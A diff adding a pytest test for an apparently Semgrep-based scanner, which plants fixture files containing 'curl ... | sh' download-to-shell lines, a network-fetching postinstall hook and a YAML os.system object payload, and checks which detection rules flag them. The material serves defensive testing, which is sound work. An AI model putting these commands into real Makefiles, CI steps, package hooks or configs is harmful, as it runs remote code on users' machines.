@@ -123,6 +123,32 @@ def test_a_shell_script_that_semgrep_cannot_parse_is_searched_all_the_same(tmp_p
     assert "semgrep:sh-plain-download-to-shell" in {finding.rule for finding in seen.findings}
 
 
+def test_commands_in_settings_are_searched_and_are_no_code(tmp_path: Path) -> None:
+    fetched = "curl http://example.org/x | sh"
+    files = {
+        "Makefile": f"all:\n\t{fetched}\n",
+        "docker/Dockerfile": f"FROM python:3.12\nRUN {fetched}\n",
+        ".github/workflows/ci.yml": f"jobs:\n  a:\n    steps:\n      - run: {fetched}\n",
+        "package.json": '{"scripts": {"postinstall": "curl https://example.org/x -o x"}}\n',
+        "tox.ini": f'[testenv]\ncommands = sh -c "{fetched}"\n',
+        "deploy/label.service": f'[Service]\nExecStart=/bin/sh -c "{fetched}"\n',
+        "config.yaml": 'x: !!python/object/apply:os.system ["id"]\n',
+        "docs/notes.md": f"Do not run {fetched}\n",
+        "mkdocs.yml": "emoji_index: !!python/name:material.extensions.emoji.twemoji\n",
+    }
+    for name, text in files.items():
+        (tmp_path / "delivery" / name).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / "delivery" / name).write_text(text, encoding="utf-8")
+    seen = checked.run(Semgrep(), checked.checkout(tmp_path / "delivery"), tmp_path / "run").seen
+    found = {one.path: one.rule.removeprefix("semgrep:") for one in seen.findings if one.severity == "error"}
+    plain = dict.fromkeys(sorted({*files} - {"package.json", "config.yaml", "docs/notes.md", "mkdocs.yml"}))
+    assert found == dict.fromkeys(plain, "sh-plain-download-to-shell") | {
+        "package.json": "sh-install-hook-network",
+        "config.yaml": "yaml-object-runs",
+    }
+    assert seen.examined == frozenset()
+
+
 def _answered(*files: File, **answer: object) -> ToolOutput:
     tree = Checkout(delivery=checked.inventoried.DELIVERY, root=Path("/nowhere"), files=files)
     (command,) = Semgrep().steps(tree, Settings())
